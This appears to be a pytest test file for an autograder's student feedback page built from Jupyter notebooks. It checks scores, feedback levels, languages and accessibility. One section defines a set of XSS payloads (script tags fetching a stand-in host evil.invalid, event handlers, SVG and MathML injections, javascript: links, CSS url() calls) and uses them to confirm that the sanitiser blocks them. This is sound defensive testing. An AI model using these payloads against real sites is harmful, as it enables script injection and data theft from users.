"""The student's page: what it says, what it withholds, and that nothing in it runs."""

import re
import threading
from collections.abc import Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from playwright.sync_api import Browser, Page

from handgrad.pages import inert
from handgrad.pages.drawing import Edges
from handgrad.pages.feedback import Marks, page
from handgrad.pages.template import sentence
from handgrad.pages.words import LANGUAGES, name_of
from handgrad.settings import FeedbackLevel
from handgrad.verdict import ErrorPicture, Finding, Note, Report, Verdict

STEM = "1_every_step"
EDGES: Edges = {
    "counts_sum": ("counts",),
    "probs": ("counts", "counts_sum"),
    "logprobs": ("probs",),
    "loss": ("logprobs",),
}
PICTURE = ErrorPicture(((0.5, -0.25), (0.0, 0.0)), 2, 2)


def finding(name: str, verdict: Verdict, **more: Any) -> Finding:
    points = {Verdict.RIGHT: 1.0, Verdict.RIGHT_STEP: 1.0, Verdict.COULD_NOT_TELL: None}
    return replace(
        Finding(STEM, name, f"test_{name}", verdict, points.get(verdict, 0.0), 1.0), **more
    )


FINDINGS = (
    finding("dlogprobs", Verdict.RIGHT),
    finding("dprobs", Verdict.RIGHT_STEP, remarks=(Note("follow_through"),)),
    finding(
        "dcounts",
        Verdict.WRONG,
        error=0.03,
        diagnoses=(Note("missing_branch", {"consumer": "counts_sum"}),),
        picture=PICTURE,
    ),
    finding("dcounts_sum", Verdict.NOT_ATTEMPTED),
    finding("dnorm_logits", Verdict.COULD_NOT_TELL, diagnoses=(Note("trouble", {"why": "it"}),)),
)
REPORT = Report("ada", "backprop", FINDINGS, {STEM: (Note("cell_edited", {"cell": "given_2"}),)})


def nbgrader(grade_id: str, *, grade: bool = False, solution: bool = False, **more: Any) -> Any:
    flags = {"grade": grade, "solution": solution, "locked": not solution, "grade_id": grade_id}
    return {"nbgrader": {**flags, "schema_version": 3, **more}}


def notebook(outputs: list[NotebookNode] | None = None, **comment: str) -> NotebookNode:
    cells = [
        new_markdown_cell("# Every step", metadata=nbgrader("intro")),
        new_code_cell("import torch", metadata=nbgrader("given_1")),
    ]
    for one in FINDINGS:
        code = f"{one.name} = my_{one.name}"
        cells += [
            new_code_cell(
                code, metadata=nbgrader(one.name, solution=True, **comment), outputs=outputs or []
            ),
            new_code_cell(
                f"cmp('{one.name[1:]}', {one.name}, {one.name[1:]})",
                metadata=nbgrader(one.grade_id, grade=True, points=1.0, score=one.points or 0.0),
            ),
        ]
    written = nbgrader("bessel", grade=True, solution=True, points=3.0, score=2.0)
    cells.append(new_markdown_cell("Because **n - 1** is unbiased.", metadata=written))
    return new_notebook(cells=cells)


def made(report: Report = REPORT, **options: Any) -> str:
    asked: dict[str, Any] = {"language": "en", "level": "question", **options}
    notebooks = asked.pop("notebooks", {STEM: notebook()})
    return page(report, notebooks, asked.pop("edges", {STEM: EDGES}), **asked)


def row(html: str, name: str) -> str:
    """The table row of one gradient, tags stripped."""
    rows = re.findall(r'<tr role="row".*?</tr>', html, re.DOTALL)
    texts = [" ".join(re.sub(r"<[^>]+>", " ", r).split()) for r in rows]
    (found,) = [text for text in texts if text.split()[0] == name]
    return found


# ------------------------------------------------------------------------------------- what it says


def test_every_gradient_has_a_row_with_verdict_points_and_question() -> None:
    html = made()
    assert row(html, "dlogprobs") == "dlogprobs right 1 / 1"
    assert row(html, "dprobs") == "dprobs right step 1 / 1"
    assert row(html, "dcounts").startswith("dcounts start here wrong 0 / 1 In how many lines")
    assert row(html, "dcounts_sum") == "dcounts_sum not attempted 0 / 1"


def test_what_the_grader_could_not_tell_has_no_points_and_no_blame() -> None:
    told = row(made(notebooks={}), "dnorm_logits")
    assert told.startswith("dnorm_logits could not tell ? / 1")
    assert "nothing is held against you" in told
    assert "2 of 5 points so far" in made(notebooks={})


def test_the_next_step_is_the_first_wrong_one() -> None:
    assert "Next: look at <code>dcounts</code>" in made()
    assert made().count('class="node v-wrong first"') == 1


@pytest.mark.parametrize(
    ("verdicts", "told"),
    [
        ([Verdict.RIGHT, Verdict.RIGHT], "Every gradient is right."),
        ([Verdict.RIGHT, Verdict.NOT_ATTEMPTED], "What is there is right. Next: <code>dprobs"),
        ([Verdict.NOT_ATTEMPTED] * 2, "The first one is <code>dlogprobs</code>."),
    ],
    ids=["all right", "unfinished", "untouched"],
)
def test_there_is_always_one_next_thing_to_do(verdicts: list[Verdict], told: str) -> None:
    findings = [replace(f, verdict=v) for f, v in zip(FINDINGS[:2], verdicts, strict=True)]
    assert told in made(Report("ada", "backprop", tuple(findings)))


@pytest.mark.parametrize(
    ("level", "asked", "named", "pictured"),
    [("verdict", False, False, False), ("question", True, False, True), ("full", True, True, True)],
    ids=["verdict", "question", "full"],
)
def test_the_level_decides_what_is_told(
    level: FeedbackLevel, asked: bool, named: bool, pictured: bool
) -> None:
    html = made(level=level)
    assert ("In how many lines" in html) == asked
    assert ("What comes back through <code>counts_sum</code>" in html) == named
    assert ("Largest error" in html) == named
    assert ("<figure>" in html) == pictured


def test_the_verdict_stands_beside_the_code_it_judges() -> None:
    frames = made().split('<div class="pair')[1:]
    for one, frame in zip(FINDINGS, frames, strict=False):
        assert f"my_{one.name}" in frame
        assert name_of(one.verdict, "en") in frame


def test_marks_given_by_hand_win_over_the_report() -> None:
    changed = notebook()
    changed.cells[7].metadata.nbgrader.score = 0.75
    html = made(notebooks={STEM: changed}, marks=Marks(7.25, 8.0))
    assert "7.25 of 8 points" in html
    assert "dcounts start here wrong 0.75 / 1 points set by hand" in row(html, "dcounts")


def test_written_answers_show_their_mark_or_that_they_wait_for_one() -> None:
    assert row(made(), "bessel") == "bessel written answer 2 / 3 marked by hand"
    waiting = made(marks=Marks(4.0, 8.0, waiting=frozenset({"bessel"})))
    assert row(waiting, "bessel").endswith("? / 3 a person has not marked this yet")
    assert "4 of 8 points so far" in waiting


def test_a_late_penalty_is_said() -> None:
    assert "0.5 points were taken off because it was late" in made(marks=Marks(3.5, 8.0, 0.5))


def test_a_persons_comment_stands_beside_the_answer() -> None:
    html = made(notebooks={STEM: notebook(comment="Look **again** at $x_i$.")})
    assert "<strong>again</strong>" in html
    assert "<math" in html


def test_problems_of_the_file_are_told() -> None:
    assert "The locked cell <code>given_2</code> had been changed" in made()


def test_a_notebook_that_is_missing_is_told_on_the_page_of_another() -> None:
    report = replace(REPORT, problems={"4_other": (Note("missing"),)})
    html = made(report, only=REPORT.findings[0].notebook)
    assert "<code>4_other.ipynb</code>: The notebook was not handed in." in html


def test_a_picture_in_a_written_answer_is_a_picture() -> None:
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
    cell = new_markdown_cell("See ![my sketch](attachment:a.png)")
    cell.attachments = {"a.png": {"image/png": png}}
    shown = inert.markdown(cell.source, cell.attachments)
    assert f'src="data:image/png;base64,{png}"' in shown


def test_the_page_does_without_notebook_and_graph() -> None:
    html = made(notebooks={}, edges={})
    assert row(html, "dlogprobs") == "dlogprobs right 1 / 1"
    assert 'class="graph"' not in html


def test_one_notebook_of_several_can_be_shown_alone() -> None:
    other = replace(FINDINGS[0], notebook="2_cross_entropy", name="dlogits")
    both = replace(REPORT, findings=(*FINDINGS, other))
    assert row(made(both), "dlogits")
    assert "dlogits" not in made(both, only=STEM)


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_page_speaks_the_language_that_was_set(language: str) -> None:
    html = made(language=language, level="full")
    assert f'<html lang="{ {"en": "en", "zh": "zh-Hans"}[language] }">' in html
    assert name_of(Verdict.WRONG, language) in html
    assert name_of(Verdict.WRONG, "zh" if language == "en" else "en") not in re.sub(
        r"<style>.*?</style>|<[^>]*>", "", html, flags=re.DOTALL
    )


def test_progress_and_code_survive_as_text() -> None:
    html = made(notebooks={STEM: notebook([new_output("stream", text="epoch 1 \x1b[31m<b>\n")])})
    assert "epoch 1 &lt;b&gt;" in html
    assert '<span class="c-kn">import</span>' in html


# ----------------------------------------------------------------------------- what cannot happen

EVIL = "http://evil.invalid"  # the address of the trap, once it is set
HOSTILE = {
    "script": f"<script>window.hacked=1;fetch('{EVIL}/a')</script><script src={EVIL}/b></script>",
    "event handlers": "<img src=x onerror='window.hacked=2'><b onclick=window.hacked=3>x</b>"
    "<details open ontoggle=window.hacked=4>x</details>",
    "svg": f"<svg onload=window.hacked=5><script>window.hacked=6</script><image href='{EVIL}/c'/>"
    f"<use href='{EVIL}/d#x'/><animate onbegin=window.hacked=7 attributeName=x dur=1s /></svg>",
    "external image": f"<img src='{EVIL}/e.png' srcset='{EVIL}/f 1x'><picture><source srcset="
    f"'{EVIL}/g'></picture><video src='{EVIL}/h' poster='{EVIL}/i' autoplay></video>",
    "frames": f"<iframe src='{EVIL}/j' srcdoc='<script>parent.hacked=8</script>'></iframe>"
    f"<object data='{EVIL}/k'></object><embed src='{EVIL}/l'>",
    "style": f"<style>@import '{EVIL}/m'; body{{background:url({EVIL}/n)}}</style>"
    f"<link rel=stylesheet href='{EVIL}/o'><p style='background:url({EVIL}/p)'>x</p>",
    "page": f"<meta http-equiv=refresh content='0;url={EVIL}/q'><base href='{EVIL}/r/'>"
    f"<form action='{EVIL}/s'><input autofocus onfocus=window.hacked=9></form>",
    "breaking out": "</pre></div></code></td></tr></table></body></html><script>hacked=10</script>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
    "&lt;img src=1 onerror=window.hacked=11&gt;'></table></mtext></math>",
    "links": "<a href='javascript:window.hacked=12' id=top name=cookie>x</a>",
}
FORMULA = "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x onerror=window.hacked=13>}$"


def hostile_page() -> str:
    """Every payload in every place that a student, or a hand in the gradebook, can fill."""
    payload = "".join(HOSTILE.values())
    outputs = [
        new_output("stream", text=payload),
        new_output("error", ename=payload, evalue=payload, traceback=[payload]),
        new_output("display_data", data={"text/html": payload}),
        new_output("display_data", data={"text/markdown": payload + FORMULA}),
        new_output("display_data", data={"image/svg+xml": HOSTILE["svg"]}),
        new_output("display_data", data={"image/png": "x' onerror='window.hacked=14"}),
        new_output("display_data", data={"application/javascript": "window.hacked=15"}),
        new_output("display_data", data={"text/latex": payload}),
        new_output("execute_result", data={payload: payload}, execution_count=1),
    ]
    book = notebook(outputs, comment=payload + FORMULA)
    book.cells += [
        new_markdown_cell(payload + FORMULA),
        new_code_cell(payload),
        new_markdown_cell(payload, metadata=nbgrader(payload, grade=True, solution=True)),
    ]
    wrong = finding(
        "dlogits",
        Verdict.WRONG,
        diagnoses=(
            Note("raised", {"ename": payload, "evalue": payload + "`"}),
            Note("unusable", {"why": payload}),
        ),
        remarks=(Note("flat_shape", {"got": payload, "want": "`"}),),
    )
    report = Report(
        payload, "backprop", (*FINDINGS, wrong), {STEM: (Note("trouble", {"why": payload}),)}
    )
    return made(report, notebooks={STEM: book}, level="full")


class Trap(ThreadingHTTPServer):
    """A server that any page may ask, and that remembers what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_error(404)

            def log_message(self, *_: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    with Trap() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture
def watch(browser: Browser, trap: Trap, tmp_path: Path) -> Iterator[Callable[..., Page]]:
    """Opens a page whose hostile addresses lead to the trap, and gives it a moment."""
    contexts = []
    trap.asked.clear()

    def open_(html: str, **options: Any) -> Page:
        path = tmp_path / "page.html"
        path.write_text(
            html.replace(EVIL, f"http://127.0.0.1:{trap.server_port}"), encoding="utf-8"
        )
        contexts.append(browser.new_context(**options))
        opened = contexts[-1].new_page()
        opened.on("dialog", lambda dialog: trap.asked.append(f"dialog: {dialog.message}"))
        opened.on("request", lambda request: seen.append(request.url))
        seen: list[str] = []
        opened.goto(path.as_uri())
        opened.wait_for_timeout(100)
        outside = [url for url in seen if url != path.as_uri() and not url.startswith("data:")]
        opened.evaluate("urls => { window.outside = urls }", outside)
        return opened

    yield open_
    for context in contexts:
        context.close()


def hacked(opened: Page) -> object:
    return opened.evaluate("window.hacked ?? null")


def test_the_trap_would_catch_a_page_without_defences(
    watch: Callable[..., Page], trap: Trap
) -> None:
    opened = watch("<body>" + "".join(HOSTILE[k] for k in ("script", "event handlers", "style")))
    assert hacked(opened)
    assert {"/a", "/b", "/m", "/p"} <= set(trap.asked)


def test_a_hostile_notebook_runs_nothing_and_asks_nobody(
    watch: Callable[..., Page], trap: Trap
) -> None:
    opened = watch(hostile_page())
    assert opened.evaluate("window.outside") == []  # not even asked for, and then forbidden
    assert trap.asked == []
    assert hacked(opened) is None
    assert opened.locator("script, iframe, object, embed, form, link, base, video").count() == 0
    assert opened.locator("main").count() == 1  # nothing closed the page early
    assert opened.locator("a[href^='javascript']").count() == 0
    assert opened.locator(".rich [class]:not(.dataframe), .rich [id], .rich [style]").count() == 0


@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE)
def test_the_policy_alone_would_hold_if_the_sanitiser_failed(
    watch: Callable[..., Page], trap: Trap, payload: str
) -> None:
    html = made().replace("</main>", payload + "</main>")
    if "http-equiv=refresh" in payload:  # no policy forbids leaving the page; the sanitiser does
        html = html.replace("<meta http-equiv=refresh", "<i data-was-meta")
    assert hacked(watch(html)) is None
    assert trap.asked == []


def test_the_page_carries_no_script_and_no_address(watch: Callable[..., Page]) -> None:
    html = made()
    assert "<script" not in html
    assert not re.search(r"(?:src|href)=\"(?!#|data:)", html)
    assert watch(html).evaluate("window.outside") == []


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_serious(
    watch: Callable[..., Page], axe: str, language: str, scheme: str
) -> None:
    html = made(language=language, level="full", marks=Marks(3.5, 8.0, 0.5, frozenset({"bessel"})))
    seen = watch(html, color_scheme=scheme)
    seen.evaluate(axe)
    result = seen.evaluate("axe.run()")
    serious = [v for v in result["violations"] if v["impact"] in ("serious", "critical")]
    assert [(v["id"], [n["html"] for n in v["nodes"]]) for v in serious] == []


@pytest.mark.parametrize("width", [320, 380, 800], ids=["small phone", "phone", "tablet"])
def test_nothing_runs_off_the_side_of_a_narrow_screen(
    watch: Callable[..., Page], width: int
) -> None:
    long = new_output("stream", text="x" * 500)
    seen = watch(
        made(notebooks={STEM: notebook([long])}, level="full"),
        viewport={"width": width, "height": 700},
    )
    assert seen.evaluate("document.documentElement.scrollWidth") <= width


def test_a_sentence_shows_its_names_as_code() -> None:
    assert sentence("see `h`, not `<b>`") == "see <code>h</code>, not <code>&lt;b&gt;</code>"
    assert sentence("an odd ` stays") == "an odd ` stays"
